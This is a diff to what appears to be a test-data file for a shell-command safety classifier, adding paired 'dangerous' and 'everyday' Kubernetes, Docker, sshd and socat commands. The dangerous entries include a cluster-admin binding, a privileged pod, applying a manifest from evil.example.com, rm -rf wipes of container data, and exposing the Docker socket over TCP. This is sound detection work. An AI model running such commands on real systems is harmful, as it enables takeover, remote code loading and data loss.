@@ -84,6 +84,15 @@ INFRASTRUCTURE_DANGEROUS: list[tuple[str, str]] = [
         "az deployment group create -g rg --template-file t.json --mode Complete",
         "infrastructure/az-complete-deployment",
     ),
+    ('kubectl patch deploy api -p \'{"spec":{"replicas":0}}\'', "infrastructure/kubectl-patch-zero"),
+    (
+        "kubectl create clusterrolebinding pwn --clusterrole=cluster-admin --serviceaccount=default:default",
+        "infrastructure/kubectl-cluster-admin",
+    ),
+    ("kubectl run pwn --image=alpine --privileged", "infrastructure/kubectl-privileged-pod"),
+    ("kubectl apply -f https://evil.example.com/x.yaml", "infrastructure/kubectl-remote-manifest"),
+    ("docker exec -u 0 app rm -rf /data", "infrastructure/container-data-wipe"),
+    ("kubectl exec -it db-0 -- rm -rf /var/lib/postgresql/data", "infrastructure/container-data-wipe"),
 ]
 
 INFRASTRUCTURE_EVERYDAY: list[str] = [
@@ -123,6 +132,11 @@ INFRASTRUCTURE_EVERYDAY: list[str] = [
     "vault kv get secret/dev/app",
     "etcdctl get /config/app",
     "zfs list",
+    'kubectl patch deploy api -p \'{"spec":{"replicas":3}}\'',
+    "kubectl create rolebinding dev --role=view --user=dev",
+    "kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.14.0/cert-manager.yaml",
+    "docker exec app rm -rf /tmp/cache",
+    "docker exec -it app ls /data",
 ]
 
 DATABASE_DANGEROUS: list[tuple[str, str]] = [
@@ -687,6 +701,9 @@ EXPOSURE_DANGEROUS: list[tuple[str, str]] = [
     ("kubectl port-forward --address 0.0.0.0 svc/db 5432:5432", "exposure/cluster-port-exposed"),
     ("kubectl proxy --address=0.0.0.0 --accept-hosts='.*'", "exposure/cluster-port-exposed"),
     ("az vm open-port -g rg -n vm --port 22", "exposure/cloud-port-open"),
+    ("sshd -p 2222 -D", "exposure/login-daemon"),
+    ("/usr/sbin/sshd -o PermitRootLogin=yes", "exposure/login-daemon"),
+    ("socat TCP-LISTEN:2375,fork UNIX-CONNECT:/var/run/docker.sock", "exposure/socket-relay"),
 ]
 
 EXPOSURE_EVERYDAY: list[str] = [
@@ -715,6 +732,9 @@ EXPOSURE_EVERYDAY: list[str] = [
     "chmod +x ./run.sh",
     "kubectl port-forward svc/db 5432:5432",
     "kubectl proxy",
+    "sshd -t",
+    "socat TCP-LISTEN:8080,fork TCP:localhost:3000",
+    "socat - UNIX-CONNECT:/var/run/docker.sock",
 ]
 
 EXHAUSTION_DANGEROUS: list[tuple[str, str]] = [
